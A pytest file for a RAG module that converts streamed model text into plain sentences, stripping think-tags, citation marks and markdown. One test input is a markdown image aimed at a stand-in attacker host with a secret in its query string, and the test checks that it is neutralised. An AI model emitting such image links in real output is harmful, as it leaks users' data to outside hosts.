"""From a model's stream to sentences of plain prose."""

from __future__ import annotations

import sys
from collections import Counter

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.grounding.marks import MarkParser
from rag.writing.prose import ModelText


def read(text: str, size: int = 0, keys: frozenset[str] = frozenset()) -> tuple[str, list[str]]:
    model = ModelText(MarkParser(keys))
    shown = "".join(model.feed(text[i : i + size]) for i in range(0, len(text), size)) if size else model.feed(text)
    return shown + model.close(), model.sentences


@pytest.mark.parametrize(
    ("text", "sentences"),
    [
        ("One came. Two left.", ["One came.", "Two left."]),
        ("<think>Hm. I wonder [a1b2c3]…</think>\n\nOne came.", ["One came."]),
        ("**One** came.\n\n## Two\n\n- Three left.\n* Four `stayed`.",
         ["One came.", "Two", "Three left.", "Four stayed."]),
        ("1. One came.\n2. Two left.", ["One came.", "Two left."]),
        ("One ![x](https://evil.example/?q=secret) came to [the town](https://a.example).",
         ["One x came to the town."]),
        ("One came [a1b2c3]. [a1b2c3]\n\nSources:\n[a1b2c3] A title.", ["One came."]),
        ("Mr. Rutte paid $1.5 million. He left at 5 p.m. on Monday.",
         ["Mr. Rutte paid $1.5 million.", "He left at 5 p.m. on Monday."]),
        ("He said: “One came. Two left.” And went.", ["He said: “One came. Two left.”", "And went."]),
        ("...\n\n---", []),
        ("<think>never ends", []),
        ("<thi", ["<thi"]),
        ("", []),
    ],
)  # fmt: skip
@pytest.mark.parametrize("size", [0, 1, 3])
def test_what_models_write_becomes_sentences(text, sentences, size):
    assert read(text, size, frozenset({"a1b2c3"}))[1] == sentences


def test_a_sentence_is_released_when_the_next_has_begun():
    model = ModelText(MarkParser(()))
    model.feed("One came. Two")
    assert model.sentences == []
    model.feed(" left")
    assert model.sentences == ["One came."]


@given(st.text(st.sampled_from("ab A.!?\n “”*-[]<>1"), max_size=120), st.integers(1, 9))
def test_nothing_but_signs_is_lost(text, size):
    shown, sentences = read(text, size)
    plain = [c for c in shown if c.isalnum()]
    assert [c for c in "".join(sentences) if c.isalpha()] == [c for c in plain if c.isalpha()]


@pytest.mark.parametrize("unit", ["a", "a ", "A. ", "“", "<think>", "[", "\n", "- "])
def test_twice_as_much_nonsense_is_twice_the_work(unit):
    assert calls(unit * (3_000 // len(unit))) < 2.5 * calls(unit * (1_500 // len(unit)))


def calls(text: str) -> int:
    """How many functions are called to read a text: a measure of work that does not depend on the machine."""
    counted = Counter[str]()
    sys.setprofile(lambda frame, event, argument: counted.update([event]))
    try:
        read(text, 4)
    finally:
        sys.setprofile(None)
    return counted["call"] + counted["c_call"]
